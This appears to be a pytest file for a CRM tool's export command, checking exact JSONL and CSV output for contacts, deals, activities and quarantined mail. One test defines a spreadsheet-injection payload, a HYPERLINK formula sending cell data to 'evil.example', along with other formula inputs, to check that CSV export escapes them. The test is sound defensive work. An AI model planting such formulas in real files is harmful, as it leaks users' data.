"""`threadline export`: every kind, both formats, exact fields and values."""

import csv
import io
import json
from datetime import timedelta

from models.activities import log_activity, touch
from models.deals import move_deal_to_stage
from models.schema import Activity, ActivityKind, Direction, EmailSighting, QuarantinedMessage
from tests.fixtures.factories import stage_named


def seed(session, make_user, make_company, make_contact, make_deal, now):
    rep = make_user("rep@team.example", name="Rep")
    acme = make_company("Acme, Inc.", domain="acme.com", owner=rep)
    acme.domains.append(type(acme.domains[0])(domain="acme.co.uk"))
    jane = make_contact(
        "Jane Doe",
        email=["jane@acme.com", "j.doe@acme.com"],
        company=acme,
        owner=rep,
        title="CEO",
        phone="+1 555",
        lead_source="Website",
    )
    loner = make_contact("Lone Wolf", email="wolf@gmail.example")
    deal = make_deal("Acme renewal", company=acme, contacts=[jane, loner], owner=rep, value="1234.5")
    lost = make_deal("Lost one", value="10")
    move_deal_to_stage(
        session, lost, stage_named(session, "Lost"), now=now + timedelta(days=1), lost_reason="Budget"
    )
    email = Activity(
        kind=ActivityKind.EMAIL,
        occurred_at=now,
        subject="Re: pricing",
        body="Hi",
        author=rep,
        company=acme,
        deal=deal,
        created_at=now,
        message_id="<abc@acme.com>",
        content_key="k1",
        direction=Direction.IN,
        snippet="Hi",
        truncated=False,
        needs_deal_review=False,
    )
    email.contacts.append(jane)
    email.sightings.extend(
        [
            EmailSighting(mailbox="sam", folder="INBOX", seen_at=now),
            EmailSighting(mailbox="ann", folder="INBOX", seen_at=now),
            EmailSighting(mailbox="sam", folder="Archive", seen_at=now),
        ]
    )
    session.add(email)
    touch([deal, acme, jane], now)
    log_activity(
        session, kind="call", occurred_at=now + timedelta(hours=1), now=now, subject="Call", contacts=[loner]
    )
    session.add(
        QuarantinedMessage(
            mailbox="sam",
            folder="INBOX",
            uidvalidity=7,
            uid=42,
            message_id="<bad@x>",
            reason="unparseable date",
            raw=b"raw bytes",
            attempts=3,
            created_at=now,
            last_attempt_at=now + timedelta(hours=2),
        )
    )
    session.commit()
    return rep, acme, jane, loner, deal, lost


def export(cli, what, fmt):
    result = cli("export", what, "--format", fmt)
    assert (result.code, result.err) == (0, "")
    if fmt == "jsonl":
        return [json.loads(line) for line in result.out.splitlines()]
    return list(csv.DictReader(io.StringIO(result.out)))


def test_export_every_kind_as_jsonl_and_csv(
    cli, session, make_user, make_company, make_contact, make_deal, now
):
    _rep, acme, jane, loner, deal, lost = seed(session, make_user, make_company, make_contact, make_deal, now)
    at = "2026-11-23T09:00:00Z"

    contacts = export(cli, "contacts", "jsonl")
    assert contacts == [
        {
            "id": jane.id,
            "name": "Jane Doe",
            "emails": ["jane@acme.com", "j.doe@acme.com"],
            "company": "Acme, Inc.",
            "owner": "rep@team.example",
            "title": "CEO",
            "phone": "+1 555",
            "lead_source": "Website",
            "created_at": at,
            "last_activity_at": at,
        },
        {
            "id": loner.id,
            "name": "Lone Wolf",
            "emails": ["wolf@gmail.example"],
            "company": None,
            "owner": None,
            "title": None,
            "phone": None,
            "lead_source": None,
            "created_at": at,
            "last_activity_at": "2026-11-23T10:00:00Z",
        },
    ]
    rows = export(cli, "contacts", "csv")
    assert list(rows[0]) == [
        "id",
        "name",
        "emails",
        "company",
        "owner",
        "title",
        "phone",
        "lead_source",
        "created_at",
        "last_activity_at",
    ]
    assert rows[0]["emails"] == "jane@acme.com;j.doe@acme.com"
    assert (rows[1]["company"], rows[1]["owner"]) == ("", "")

    assert export(cli, "companies", "jsonl") == [
        {
            "id": acme.id,
            "name": "Acme, Inc.",
            "domains": ["acme.com", "acme.co.uk"],
            "owner": "rep@team.example",
            "created_at": at,
            "last_activity_at": at,
        },
    ]
    assert export(cli, "companies", "csv") == [
        {
            "id": str(acme.id),
            "name": "Acme, Inc.",
            "domains": "acme.com;acme.co.uk",
            "owner": "rep@team.example",
            "created_at": at,
            "last_activity_at": at,
        },
    ]

    deals = export(cli, "deals", "jsonl")
    assert deals == [
        {
            "id": deal.id,
            "title": "Acme renewal",
            "value": "1234.50",
            "currency": "USD",
            "pipeline": "Sales",
            "stage": "Qualified",
            "status": "open",
            "owner": "rep@team.example",
            "company": "Acme, Inc.",
            "contacts": ["jane@acme.com", "wolf@gmail.example"],
            "expected_close": None,
            "created_at": at,
            "closed_at": None,
            "lost_reason": None,
            "last_activity_at": at,
        },
        {
            "id": lost.id,
            "title": "Lost one",
            "value": "10.00",
            "currency": "USD",
            "pipeline": "Sales",
            "stage": "Lost",
            "status": "lost",
            "owner": None,
            "company": None,
            "contacts": [],
            "expected_close": None,
            "created_at": at,
            "closed_at": "2026-11-24T09:00:00Z",
            "lost_reason": "Budget",
            "last_activity_at": None,
        },
    ]
    deal_rows = export(cli, "deals", "csv")
    assert list(deal_rows[0]) == list(deals[0])
    assert (deal_rows[0]["value"], deal_rows[0]["contacts"]) == (
        "1234.50",
        "jane@acme.com;wolf@gmail.example",
    )

    activities = export(cli, "activities", "jsonl")
    assert activities == [
        {
            "id": activities[0]["id"],
            "kind": "email",
            "occurred_at": at,
            "subject": "Re: pricing",
            "direction": "in",
            "message_id": "<abc@acme.com>",
            "contacts": ["jane@acme.com"],
            "company": "Acme, Inc.",
            "deal": "Acme renewal",
            "deal_id": deal.id,
            "mailboxes": ["ann", "sam"],
            "author": "rep@team.example",
        },
        {
            "id": activities[1]["id"],
            "kind": "call",
            "occurred_at": "2026-11-23T10:00:00Z",
            "subject": "Call",
            "direction": None,
            "message_id": None,
            "contacts": ["wolf@gmail.example"],
            "company": None,
            "deal": None,
            "deal_id": None,
            "mailboxes": [],
            "author": None,
        },
    ]
    activity_rows = export(cli, "activities", "csv")
    assert list(activity_rows[0]) == list(activities[0])
    assert (activity_rows[0]["mailboxes"], activity_rows[1]["direction"]) == ("ann;sam", "")

    quarantine = export(cli, "quarantine", "jsonl")
    assert quarantine == [
        {
            "id": quarantine[0]["id"],
            "mailbox": "sam",
            "folder": "INBOX",
            "uidvalidity": 7,
            "uid": 42,
            "message_id": "<bad@x>",
            "reason": "unparseable date",
            "created_at": at,
            "attempts": 3,
            "last_attempt_at": "2026-11-23T11:00:00Z",
            "resolved_at": None,
        },
    ]
    assert export(cli, "quarantine", "csv")[0]["uid"] == "42"


def test_export_of_an_empty_database_is_empty_jsonl_and_a_header_only_csv(cli):
    assert cli("export", "deals").out == ""
    assert (
        cli("export", "companies", "--format", "csv").out
        == "id,name,domains,owner,created_at,last_activity_at\n"
    )


def test_export_streams_more_rows_than_one_batch(cli, session, now, monkeypatch):
    from models.schema import Contact, ContactEmail
    from threadline import exporter

    monkeypatch.setattr(exporter, "BATCH", 7)
    for n in range(30):
        session.add(Contact(name=f"P{n}", created_at=now, emails=[ContactEmail(email=f"p{n}@x.example")]))
    session.commit()
    rows = export(cli, "contacts", "jsonl")
    assert [r["emails"] for r in rows] == [[f"p{n}@x.example"] for n in range(30)]


FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open invoice")'


def test_csv_cells_a_spreadsheet_would_run_are_text_and_jsonl_stays_exact(
    cli, session, make_user, make_company, make_contact, make_deal, now
):
    rep = make_user("rep@team.example", name="Rep")
    company = make_company("-2+3 Holdings", domain="holdings.example", owner=rep)
    contact = make_contact(
        FORMULA, email="lead@holdings.example", company=company, title="@SUM(A1:A9)", lead_source="\tWebinar"
    )
    deal = make_deal("+Expansion", company=company, contacts=[contact], owner=rep)
    move_deal_to_stage(session, deal, stage_named(session, "Lost"), now=now, lost_reason="=1+1")
    for minute, subject in enumerate((FORMULA, "-1.50", "\r\nnew line first", "Plain subject")):
        # as the sync records a subject from mail: verbatim
        email = Activity(
            kind=ActivityKind.EMAIL,
            occurred_at=now + timedelta(minutes=minute),
            created_at=now,
            subject=subject,
            direction=Direction.IN,
            snippet="",
            truncated=False,
            needs_deal_review=False,
        )
        email.contacts.append(contact)
        session.add(email)
    session.commit()

    [contact_row] = export(cli, "contacts", "csv")
    assert (contact_row["name"], contact_row["title"], contact_row["lead_source"]) == (
        "'" + FORMULA,
        "'@SUM(A1:A9)",
        "'\tWebinar",
    )
    assert contact_row["company"] == "'-2+3 Holdings"
    [company_row] = export(cli, "companies", "csv")
    assert company_row["name"] == "'-2+3 Holdings"
    [deal_row] = export(cli, "deals", "csv")
    assert (deal_row["title"], deal_row["company"], deal_row["lost_reason"], deal_row["contacts"]) == (
        "'+Expansion",
        "'-2+3 Holdings",
        "'=1+1",
        "lead@holdings.example",
    )
    subjects = [row["subject"] for row in export(cli, "activities", "csv")]
    # a plain signed number is a number, not a formula: left as it is
    assert subjects == ["'" + FORMULA, "-1.50", "'\r\nnew line first", "Plain subject"]
    raw = cli("export", "activities", "--format", "csv").out
    assert "\n=" not in raw and ',"=' not in raw and ",=" not in raw

    # JSON lines are for programs: every value exactly as stored
    [contact_json] = export(cli, "contacts", "jsonl")
    assert (contact_json["name"], contact_json["title"], contact_json["lead_source"]) == (
        FORMULA,
        "@SUM(A1:A9)",
        "\tWebinar",
    )
    [deal_json] = export(cli, "deals", "jsonl")
    assert (deal_json["title"], deal_json["lost_reason"]) == ("+Expansion", "=1+1")
    assert [a["subject"] for a in export(cli, "activities", "jsonl")] == [
        FORMULA,
        "-1.50",
        "\r\nnew line first",
        "Plain subject",
    ]
